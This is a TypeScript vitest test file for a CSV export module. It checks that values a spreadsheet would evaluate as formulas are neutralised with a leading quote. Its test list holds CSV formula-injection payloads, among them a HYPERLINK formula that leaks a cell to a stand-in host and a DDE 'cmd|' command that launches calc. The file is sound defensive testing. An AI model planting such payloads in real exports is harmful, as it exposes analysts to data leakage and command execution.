import { describe, expect, it } from "vitest";
import { csvCell, toCsv } from "../src/report/csv.ts";
import { parseCsvLine } from "../src/tools/eval/csv.ts";

/** What a spreadsheet would evaluate if it came first in a cell (OWASP, ASVS 1.2.10, full-width forms). */
const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"open")',
  "+1+2",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,2)",
  "\tTAB=1",
  "\r=1",
  "\n=1",
  "\0=1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
];

describe("CSV export", () => {
  it("prefixes every text cell a spreadsheet would evaluate with a quote, inside a quoted cell", () => {
    for (const value of HOSTILE) {
      const cell = csvCell(value);
      expect(cell, JSON.stringify(value)).toBe(`"'${value.replaceAll('"', '""')}"`);
    }
  });

  it("keeps numbers, negative ones included, as numbers and quotes ordinary text", () => {
    expect(
      toCsv(
        ["user_id", "amount", "score", "blocked"],
        [
          ["+237670000001", -1500.5, -3, true],
          ["user_1", 2000, 0, false],
          [null, undefined, 1e21, null],
        ],
      ),
    ).toBe(['"user_id","amount","score","blocked"', `"'+237670000001",-1500.5,-3,true`, '"user_1",2000,0,false', ",,1e+21,"].join("\r\n"));
  });

  it("treats a number written as text like any text: it cannot be told from a formula by its column", () => {
    expect(csvCell("-5")).toBe(`"'-5"`);
    expect(csvCell(-5)).toBe("-5");
    // Not a number a spreadsheet can read: written as text, and neutralised.
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe(`"'-Infinity"`);
  });

  it("neutralises analysts' column names and JSON lists the same way", () => {
    expect(toCsv(["=cmd|'/C calc'!A0"], [[["=1", "b"]], [{ a: "-1" }]])).toBe([`"'=cmd|'/C calc'!A0"`, `"[""=1"",""b""]"`, `"{""a"":""-1""}"`].join("\r\n"));
  });

  it("reads back, field for field, as the text with its leading quote: separators and quotes stay inside their cell", () => {
    const [, line] = toCsv(["c1", "c2", "c3", "c4"], [["a,b;=1+1", 'say "hi"', "=1", -7]]).split("\r\n");
    expect(parseCsvLine(line!)).toEqual(["a,b;=1+1", 'say "hi"', "'=1", "-7"]);
  });
});
